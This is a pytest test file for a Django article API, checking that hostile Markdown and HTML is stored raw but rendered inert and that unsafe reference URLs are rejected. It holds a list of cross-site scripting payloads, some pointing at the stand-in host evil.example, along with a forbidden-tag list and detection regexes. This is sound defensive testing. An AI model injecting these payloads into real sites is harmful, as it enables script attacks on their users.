"""RELIABILITY.md §3 negative tests 14-17: hostile Markdown/HTML is stored raw but rendered inert."""

import re
from html.parser import HTMLParser

import pytest

from articles.models import Article, Revision
from articles.rendering import ALLOWED_TAGS
from tests.factories import BODY, REFERENCES, make_article

pytestmark = pytest.mark.django_db

ARTICLES = "/api/v1/articles/"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)" style="background:url(javascript:alert(1))">p</p>',
    "<div onmouseover=alert(1)>hover</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "<javascript:alert(1)>",
    "![i](javascript:alert(1))",
    '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
    "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="vbscript:msgbox(1)">vb</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<form action="https://evil.example/"><input name=p><button>Go</button></form>',
    "<object data=x.swf></object><embed src=x.swf>",
    '<base href="https://evil.example/"><link rel=stylesheet href=x.css>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<details open ontoggle=alert(1)>d</details>",
    '<a href="https://example.org/" target="_blank" onclick="x()">ok link</a>',
    "<!-- <script>alert(1)</script> -->",
    '<img src="x" alt="`><script>alert(1)</script>">',
]
FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "style",
    "form",
    "svg",
    "math",
    "object",
    "embed",
    "base",
    "link",
    "meta",
    "input",
    "button",
    "img",
    "details",
    "textarea",
    "frame",
    "frameset",
}
SAFE_HREF = re.compile(r"^(https?://|mailto:|#ref-\d+$)", re.I)


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_inert(html: str) -> None:
    """Only allow-listed tags; no event handlers, styles or unsafe URLs anywhere in the markup."""
    lowered = html.lower()
    assert "<script" not in lowered and "<iframe" not in lowered and "<svg" not in lowered, html
    assert "<style" not in lowered and "<form" not in lowered, html
    assert not re.search(r"<[^>]*\son\w+\s*=", html, re.I), html
    assert not re.search(r"""(href|src)\s*=\s*["']?\s*(javascript|data|vbscript):""", html, re.I), html
    collector = _Collector()
    collector.feed(html)
    for tag, attrs in collector.tags:
        assert tag in ALLOWED_TAGS and tag not in FORBIDDEN_TAGS, (tag, html)
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, html)
            assert name in {"href", "title", "class", "rel", "align"}, (tag, name, html)
            if name == "href":
                assert SAFE_HREF.match(value or "") or not re.match(r"^\s*[a-z][a-z0-9+.-]*:", value or "", re.I), (
                    value,
                    html,
                )
                assert not re.match(r"^\s*(javascript|data|vbscript)", value or "", re.I), (value, html)


def _create(api, user, title, body, references=REFERENCES):
    response = api.as_user(user).post(ARTICLES, {"title": title, "body": body, "references": references}, format="json")
    assert response.status_code == 201, response.content
    return response.json()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_body_renders_inert_and_is_stored_raw(api, author, payload):
    body = f"## Hostile\n\n{payload}\n\nStatins lower LDL [1]. Trials agree [2].\n\nInline {payload} too."
    title = f"Title {payload}"
    refs = [{**REFERENCES[0], "citation": f"Guideline {payload}"}, REFERENCES[1]]
    article = _create(api, author, title, body, refs)
    assert article["title"] == title  # raw, as a JSON string (inert)

    revision = api.get(f"{ARTICLES}{article['id']}/revisions/1/")
    assert revision.status_code == 200
    data = revision.json()
    assert_inert(data["html"])
    # The raw source is kept; the JSON encoding is what makes it inert for clients.
    assert data["body"] == body and data["title"] == title
    assert data["references"][0]["citation"] == f"Guideline {payload}"
    stored = Revision.objects.get(article_id=article["id"], number=1)
    assert stored.body == body and stored.title == title
    # The citations survive the sanitiser.
    assert 'href="#ref-1"' in data["html"] and 'href="#ref-2"' in data["html"]
    # The API answers JSON only, never HTML that a browser would run.
    assert revision["Content-Type"].startswith("application/json")
    assert revision["X-Content-Type-Options"] == "nosniff"


def test_all_payloads_in_one_body(api, author):
    body = "\n\n".join(PAYLOADS) + "\n\nCited [1] [2]."
    article = _create(api, author, "All at once", body)
    html = api.get(f"{ARTICLES}{article['id']}/revisions/1/").json()["html"]
    assert_inert(html)
    assert 'href="https://example.org/"' in html  # safe links stay, without their handler
    assert "target=" not in html


def test_hostile_edit_renders_inert(api, author):
    article = make_article(author)
    api.as_user(author)
    response = api.patch(f"{ARTICLES}{article.pk}/", {"body": BODY + "\n\n" + "\n\n".join(PAYLOADS)}, format="json")
    assert response.status_code == 200, response.content
    assert_inert(api.get(f"{ARTICLES}{article.pk}/revisions/2/").json()["html"])


def test_hostile_content_in_diff_is_escaped(api, author):
    article = make_article(author)
    api.as_user(author)
    hostile = '<script>alert(1)</script> <img src=x onerror=alert(1)> <iframe src="x"></iframe>'
    response = api.patch(
        f"{ARTICLES}{article.pk}/",
        {
            "title": f"T {hostile}",
            "body": BODY + "\n\n" + hostile,
            "references": [REFERENCES[0], {**REFERENCES[1], "citation": hostile}],
        },
        format="json",
    )
    assert response.status_code == 200, response.content
    diff = api.get(f"{ARTICLES}{article.pk}/revisions/1/diff/2/").json()
    html = diff["html"]
    assert "<script" not in html.lower() and "<img" not in html.lower() and "<iframe" not in html.lower()
    assert "&lt;script&gt;" in html
    assert not re.search(r"<[^>]*\son\w+\s*=", html, re.I)
    # The change list carries the raw text as JSON strings.
    assert any(hostile in change["new"] for change in diff["changes"] if change["field"] == "body")


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "ftp://example.org/file",
        "//evil.example/",
    ],
)
def test_reference_url_with_unsafe_scheme_is_400(api, author, url, editor):
    refs = [REFERENCES[0], {**REFERENCES[1], "url": url}]
    response = api.as_user(author).post(ARTICLES, {"title": "Links", "body": BODY, "references": refs}, format="json")
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == "invalid" and "references" in body["errors"]
    assert not Article.objects.exists()
    # ...and on an edit.
    article = make_article(author)
    response = api.patch(f"{ARTICLES}{article.pk}/", {"references": refs}, format="json")
    assert response.status_code == 400
    assert Revision.objects.filter(article=article).count() == 1


def test_reference_url_https_is_kept(api, author):
    refs = [REFERENCES[0], {**REFERENCES[1], "url": "https://pubmed.ncbi.nlm.nih.gov/12345/"}]
    article = _create(api, author, "Links", BODY, refs)
    data = api.get(f"{ARTICLES}{article['id']}/revisions/1/").json()
    assert data["references"][1]["url"] == "https://pubmed.ncbi.nlm.nih.gov/12345/"


def test_html_in_topic_is_400(api, author):
    response = api.as_user(author).post(
        ARTICLES, {"title": "t", "body": BODY, "references": REFERENCES, "topic": "<script>"}, format="json"
    )
    assert response.status_code == 400
    assert "topic" in response.json()["errors"]
